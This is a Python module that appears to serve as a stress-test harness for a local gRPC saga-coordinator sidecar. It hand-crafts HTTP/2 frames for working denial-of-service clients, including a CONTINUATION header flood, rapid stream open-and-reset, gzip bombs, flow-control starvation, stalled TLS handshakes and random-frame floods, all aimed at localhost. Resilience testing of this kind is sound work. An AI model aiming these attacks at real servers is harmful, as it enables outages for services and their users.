"""attacks.py - clients that mean harm, each a function that takes the port of a sidecar and a Prey. They write HTTP/2 by hand
(https://www.rfc-editor.org/rfc/rfc9113), since no library would do what they do. Each returns what it holds open, to be closed by the caller."""
import os
import random
import select
import socket
import ssl
import struct
import threading
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
WIDE = 0x7fffffff


class Prey:
    """What an attack is to know of the sidecar: a saga whose Get is large, one whose timeline is long, and where it speaks TLS."""

    def __init__(self, large, long, tls_port):
        self.large, self.long, self.tls_port = large, long, tls_port


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def hpack_length(n):
    if n < 127:
        return bytes((n,))
    n -= 127
    out = b"\x7f"
    while n >= 128:
        out += bytes((n % 128 + 128,))
        n //= 128
    return out + bytes((n,))


def literal(key, value):
    return b"\0" + hpack_length(len(key)) + key + hpack_length(len(value)) + value


def headers(method, *more):
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()), (b":authority", b"x"), (b"te", b"trailers"),
              (b"content-type", b"application/grpc")) + more
    return b"".join(literal(k, v) for k, v in fields)


def prefixed(message, packed=False):
    return bytes((packed,)) + struct.pack(">I", len(message)) + message


def text_field(number, text):
    data = text.encode()
    assert len(data) < 128
    return bytes((number << 3 | 2, len(data))) + data


COORDINATOR = "/saga.v1.Coordinator/"


class Connection:
    """A connection that keeps to the windows it is given, and opens its own as wide as it is told. Nobody reads what comes but pump()."""

    def __init__(self, port, window=65535, receive_buffer=None):
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.connect(("127.0.0.1", port))
        self.socket.settimeout(20)
        self.next = 1
        self.streams = {}
        self.window = self.initial = 65535
        self.came = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        if window > 65535:
            self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535)))

    def send(self, data):
        self.socket.sendall(data)

    def open(self, method, message=None, end=True, *more):
        """Calls method, with the whole message at once when there is one. Returns the stream's number."""
        stream, self.next = self.next, self.next + 2
        self.streams[stream] = self.initial
        data = frame(HEADERS, END_HEADERS, stream, headers(method, *more))
        if message is not None:
            data += frame(DATA, END_STREAM if end else 0, stream, prefixed(message))
        self.send(data)
        return stream

    def pump(self, wait_s=0):
        """Reads frames, for the windows they open. Returns whether any came."""
        if not select.select((self.socket,), (), (), wait_s)[0]:
            return False
        data = self.socket.recv(1 << 16)
        if not data:
            raise ConnectionError("closed")
        self.came += data
        while len(self.came) >= 9:
            size = int.from_bytes(self.came[:3], "big")
            if len(self.came) < 9 + size:
                break
            kind, flags, stream = self.came[3], self.came[4], int.from_bytes(self.came[5:9], "big")
            self.take(kind, flags, stream, self.came[9:9 + size])
            self.came = self.came[9 + size:]
        return True

    def take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & 1:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at:at + 6])
                if key == 4:
                    for s in self.streams:
                        self.streams[s] += value - self.initial
                    self.initial = value
            self.send(frame(SETTINGS, 1, 0))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.streams:
                self.streams[stream] += more
        elif kind == RESET:
            self.streams.pop(stream, None)

    def give(self, stream, size, most=16384):
        """Sends up to size bytes of data into the stream as the windows permit. Returns how many."""
        n = min(size, most, self.window, self.streams.get(stream, 0))
        if n > 0:
            self.send(frame(DATA, 0, stream, b"x" * n))
            self.window -= n
            self.streams[stream] -= n
        return max(n, 0)

    def close(self):
        self.socket.close()


def until_cut(seconds, work):
    """Repeats work until it is cut off, says that it is done (returns False), or the time is over."""
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end and work() is not False:
            pass
    except OSError:
        pass


def unread_answers(port, prey, seconds):
    """120 Gets of 16 MB on one connection with its windows wide open, which reads nothing"""
    c = Connection(port, WIDE, 4096)
    for _ in range(120):
        c.open(COORDINATOR + "Get", text_field(1, prey.large) + b"\x10\x01")
    time.sleep(seconds)
    return [c]


def shut_windows(port, prey, seconds):
    """the same with its windows shut"""
    c = Connection(port, 0, 4096)
    for _ in range(120):
        c.open(COORDINATOR + "Get", text_field(1, prey.large) + b"\x10\x01")
    time.sleep(seconds)
    return [c]


def half_messages(port, prey, seconds):
    """400 messages of 4 MB over four connections, each without its last byte"""
    size = (4 << 20) - 5
    connections = [Connection(port) for _ in range(4)]

    def fill(c):
        for _ in range(100):
            stream = c.open(COORDINATOR + "Start")
            c.send(frame(DATA, 0, stream, b"\0" + struct.pack(">I", size)))
            c.window -= 5
            c.streams[stream] -= 5
        left = {s: size - 1 for s in c.streams}

        def more():
            given = 0
            for s in list(c.streams):
                if left.get(s):
                    n = c.give(s, left[s])
                    left[s] -= n
                    given += n
            c.pump(0 if given else 0.1)
        until_cut(seconds, more)
    threads = [threading.Thread(target=fill, args=(c,)) for c in connections]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return connections


def headers_without_end(port, prey, seconds):
    """a header of 2 GB in CONTINUATION frames, on four connections"""
    connections = [Connection(port) for _ in range(4)]

    def flood(c):
        c.send(frame(HEADERS, 0, 1, headers(COORDINATOR + "Get") + b"\0" + hpack_length(1) + b"k" + hpack_length(1 << 31)))
        piece = frame(CONTINUATION, 0, 1, b"v" * 16384) * 16
        until_cut(seconds, lambda: c.send(piece))
    threads = [threading.Thread(target=flood, args=(c,)) for c in connections]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return connections


def opened_and_reset(port, prey, seconds):
    """50,000 calls, each opened with its message and reset at once"""
    c = Connection(port)
    block = headers(COORDINATOR + "Get")
    message = prefixed(text_field(1, "aaaaaaaaaaaa-1"))
    end = time.monotonic() + seconds
    try:
        for first in range(1, 100001, 2000):
            c.send(b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message) +
                            frame(RESET, 0, s, b"\0\0\0\x08") for s in range(first, first + 2000, 2)))
            while c.pump():
                pass
        while time.monotonic() < end:
            c.pump(0.1)
    except OSError:
        pass
    time.sleep(max(0, end - time.monotonic()))
    return [c]


def gzip_bombs(port, prey, seconds):
    """20 requests of 250 kB that are 256 MB of zeros in gzip"""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(z.compress(bytes(1 << 20)) for _ in range(256)) + z.flush()
    c = Connection(port)

    def send_one(n=[0]):
        n[0] += 1
        stream = c.open(COORDINATOR + "Start", None, True, (b"grpc-encoding", b"gzip"))
        data = prefixed(bomb, True)
        while data:
            n_bytes = min(len(data), 16384, c.window, c.streams.get(stream, 0))
            if stream not in c.streams:
                break
            if n_bytes > 0:
                c.send(frame(DATA, END_STREAM if n_bytes == len(data) else 0, stream, data[:n_bytes]))
                c.window -= n_bytes
                c.streams[stream] -= n_bytes
                data = data[n_bytes:]
            else:
                c.pump(0.1)
        return n[0] < 20
    until_cut(seconds, send_one)
    time.sleep(0.5)
    return [c]


def silent(port, prey, seconds):
    """1,000 connections that say nothing"""
    sockets = []
    for _ in range(1000):
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        sockets.append(s)
    time.sleep(seconds)
    return sockets


def half_handshakes(port, prey, seconds):
    """1,000 handshakes of TLS that stop in the middle, and as many again as those are ended"""
    hello, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(hello, out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    first = out.read()
    sockets = []

    def one():
        if len(sockets) == 1000:
            ended = [s for s in select.select(sockets[:500], (), (), 0)[0] if len(s.recv(1 << 14, socket.MSG_PEEK)) == 0]
            for s in ended:
                sockets.remove(s)
                s.close()
            if not ended:
                time.sleep(0.02)
                return
        s = socket.socket()
        s.settimeout(20)
        s.connect(("127.0.0.1", prey.tls_port))
        sockets.append(s)
        s.sendall(first)
    until_cut(seconds, one)
    return sockets


def calls_without_end(port, prey, seconds):
    """2,000 calls over 20 connections that never say that they end"""
    connections = [Connection(port) for _ in range(20)]
    for c in connections:
        for i in range(100):
            c.open(COORDINATOR + ("Get", "Start", "Watch", "Pipe")[i % 4], text_field(1, prey.large), False)
    time.sleep(seconds)
    return connections


def _ask_for(port, seconds, method, message, count, connections=4):
    made = [Connection(port, WIDE) for _ in range(connections)]
    for i in range(count):
        made[i % connections].open(method, message)
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            for c in made:
                c.pump(0.05)
    except OSError:
        pass
    return made


def unread_log(port, prey, seconds):
    """nothing, while nobody reads the log of a sidecar that logs every record"""
    return []


def lists_of_nothing(port, prey, seconds):
    """480 Lists over all sagas that match none"""
    return _ask_for(port, seconds, COORDINATOR + "List", text_field(2, "nothing-of-this-name"), 480)


def long_timelines(port, prey, seconds):
    """100 Gets of a saga of 8,000 events"""
    return _ask_for(port, seconds, COORDINATOR + "Get", text_field(1, prey.long), 100)


def watches_from_the_start(port, prey, seconds):
    """20 Watches that catch up with all that was, and read nothing"""
    c = Connection(port, WIDE, 4096)
    for _ in range(20):
        c.open(COORDINATOR + "Watch", text_field(2, "1.0"))
    time.sleep(seconds)
    return [c]


def bad_pages(port, prey, seconds):
    """200 Lists with a page_token of somebody's own making"""
    return _ask_for(port, seconds, COORDINATOR + "List", text_field(6, "-,-"), 200)


def garbage(port, prey, seconds):
    """500 connections of random frames"""
    dice = random.Random(5)
    sockets = []
    for _ in range(500):
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        try:
            s.sendall(PREFACE + b"".join(frame(dice.randrange(12), dice.randrange(256), dice.choice((0, 1, 3, WIDE)),
                                               dice.randbytes(dice.randrange(200))) for _ in range(20)))
        except OSError:
            pass
        sockets.append(s)
    time.sleep(min(seconds, 1))
    return sockets


ALL = (unread_answers, shut_windows, half_messages, headers_without_end, opened_and_reset, gzip_bombs, silent, half_handshakes, calls_without_end,
       lists_of_nothing, long_timelines, watches_from_the_start, bad_pages, garbage)
